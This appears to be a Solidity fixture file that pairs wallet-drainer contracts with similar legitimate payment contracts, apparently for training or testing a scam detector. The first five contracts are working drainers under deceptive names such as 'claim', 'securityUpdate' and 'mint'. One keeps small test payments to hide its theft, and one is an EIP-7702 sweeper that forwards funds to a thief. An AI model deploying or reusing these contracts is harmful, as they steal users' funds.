// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

/// @notice A "claim" that sends what is paid to its operator.
contract PayableForwarder {
    address payable internal _operator;

    constructor() {
        _operator = payable(msg.sender);
    }

    function claim() public payable {
        _operator.transfer(msg.value);
    }
}

/// @notice Keeps small payments, so that a careful try shows nothing, and forwards what is worth it.
contract ThresholdForwarder {
    address payable internal _operator;

    constructor() {
        _operator = payable(msg.sender);
    }

    function securityUpdate() public payable {
        if (msg.value >= 0.5 ether) _operator.transfer(msg.value);
    }
}

/// @notice Shares what is paid between its operator and an affiliate that the link named.
contract SplitForwarder {
    address payable internal _operator;
    address payable internal constant AFFILIATE = payable(0x1111111111222222222233333333334444444444);

    constructor() {
        _operator = payable(msg.sender);
    }

    function mint(uint256 amount) public payable {
        require(amount > 0, "Nothing");
        _operator.transfer((msg.value * 20) / 100);
        AFFILIATE.transfer((msg.value * 80) / 100);
    }
}

/// @notice Forwards everything on plain receipt.
contract ReceiveSweeper {
    address payable internal _operator;

    constructor() {
        _operator = payable(msg.sender);
    }

    receive() external payable {
        _operator.transfer(address(this).balance);
    }
}

/// @notice What compromised accounts delegate to (EIP-7702): whatever comes in goes to the thief at once.
contract DelegationSweeper {
    address payable internal constant THIEF = payable(0x5555555555666666666677777777778888888888);

    receive() external payable {
        THIEF.transfer(address(this).balance);
    }
}

/// @notice What honest accounts delegate to (EIP-7702): the account itself sends several calls at once.
contract BatchDelegate {
    function execute(address to, uint256 value, bytes memory data) public {
        require(msg.sender == address(this), "Not the account");
        (bool done, ) = to.call{value: value}(data);
        require(done, "Failed");
    }

    receive() external payable {}
}

/// @notice Says thank you with an event, and has no other business.
contract DonationBox {
    address payable internal _cause;

    event Donated(address indexed from, uint256 amount);

    constructor() {
        _cause = payable(msg.sender);
    }

    function donate() public payable {
        emit Donated(msg.sender, msg.value);
        _cause.transfer(msg.value);
    }
}

/// @notice Shares what it got between fixed payees, whenever one of them asks.
contract PaymentSplitter {
    address payable[2] internal _payees;
    uint256 public released;

    event Received(address from, uint256 amount);

    constructor() {
        _payees[0] = payable(msg.sender);
        _payees[1] = payable(0x1111111111222222222233333333334444444444);
    }

    receive() external payable {
        emit Received(msg.sender, msg.value);
    }

    function release() public {
        uint256 half = address(this).balance / 2;
        released += half * 2;
        _payees[0].transfer(half);
        _payees[1].transfer(half);
    }
}

/// @notice Sells a token at a fixed price; the proceeds go to its treasury.
contract Crowdsale {
    address payable internal _treasury;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        _treasury = payable(msg.sender);
    }

    function buy() public payable {
        uint256 amount = msg.value * 1000;
        totalSupply += amount;
        balanceOf[msg.sender] += amount;
        emit Transfer(address(0), msg.sender, amount);
        _treasury.transfer(msg.value);
    }
}

/// @notice A presale that remembers who paid what and delivers later; the money is with the treasury meanwhile.
contract Presale {
    address payable internal _treasury;
    mapping(address => uint256) public contributed;

    constructor() {
        _treasury = payable(msg.sender);
    }

    function contribute() public payable {
        contributed[msg.sender] += msg.value;
        _treasury.transfer(msg.value);
    }
}
